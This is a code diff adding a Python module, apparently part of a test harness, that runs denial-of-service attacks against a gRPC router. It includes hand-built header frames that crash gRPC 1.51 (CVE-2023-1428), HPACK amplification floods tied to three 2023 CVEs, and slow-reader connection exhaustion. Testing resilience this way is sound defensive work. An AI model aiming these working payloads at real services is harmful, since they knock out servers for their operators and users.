@@ -1,0 +1,88 @@
+"""What outsiders do to the router. Against a server alone some of it is deadly."""
+
+import contextlib
+import socket
+import time
+
+import frames
+from attacks import LOCALIZE, many_connections, many_streams, rapid_reset
+
+DOWNLOAD = "/dcloc.v1.MapService/DownloadMap"
+
+
+def deadly_headers(case):
+    """The header fields that abort gRPC 1.51 (CVE-2023-1428), call after call."""
+    block = frames.header_block([
+        (":method", "POST"), (":scheme", "x"), (":path", LOCALIZE), (":authority", "dcloc"),
+        ("content-type", "application/grpc"), ("te", "x"), ("grpclb_client_stats", "x")])
+    _calls(case, lambda connection, stream: connection.sendall(
+        frames.frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, block)))
+
+
+def hpack_flood(case):
+    """Calls whose compressed headers grow: a field of 3,500 bytes in the table, and 4,000 references to
+    it in each call (CVE-2023-32731, CVE-2023-32732, CVE-2023-33953)."""
+    common = frames.call_headers(LOCALIZE)
+    kept = b"\x40" + b"\x01x" + b"\x7f" + _number(3500 - 127) + b"v" * 3500
+
+    def call(connection, stream):
+        block = common + (kept if stream == 1 else b"") + b"\xbe" * 4000
+        connection.sendall(frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block))
+
+    _calls(case, call)
+
+
+def _number(value):
+    """The rest of an HPACK number beyond its prefix."""
+    text = b""
+    while value >= 128:
+        text += bytes([value % 128 | 128])
+        value //= 128
+    return text + bytes([value])
+
+
+def _calls(case, call):
+    """Calls on one connection after the other, as fast as they are taken."""
+    with case.with_town() as target:
+        begun = connections = 0
+        with case.meanwhile(target):
+            time.sleep(1)
+            end = time.monotonic() + case.seconds
+            while time.monotonic() < end:
+                with contextlib.suppress(OSError), \
+                        contextlib.closing(frames.connect(target.address)) as connection:
+                    connections += 1
+                    for stream in range(1, 20_000, 2):
+                        call(connection, stream)
+                        begun += 1
+                        if time.monotonic() > end:
+                            break
+            time.sleep(0.5)
+        case.figures["calls"], case.figures["connections"] = begun, connections
+
+
+def slow_readers(case):
+    """200 connections with 20 downloads of a map each, which take no answer."""
+    with case.with_town() as target, contextlib.ExitStack() as stack:
+        payload = case.api.map_service.DownloadMapRequest(
+            map_name="town").SerializeToString()
+        block = frames.call_headers(DOWNLOAD, target.token)
+        opened = 0
+        with case.meanwhile(target):
+            for _ in range(200):
+                with contextlib.suppress(OSError):
+                    connection = stack.enter_context(
+                        contextlib.closing(frames.connect(target.address)))
+                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+                    for stream in range(1, 41, 2):
+                        connection.sendall(
+                            frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block)
+                            + frames.frame(frames.DATA, frames.END_STREAM, stream,
+                                           frames.message(payload)))
+                        opened += 1
+            time.sleep(case.seconds)
+        case.figures["downloads"] = opened
+
+
+ROUTER_ATTACKS = [deadly_headers, hpack_flood, slow_readers, rapid_reset, many_streams,
+                  many_connections]
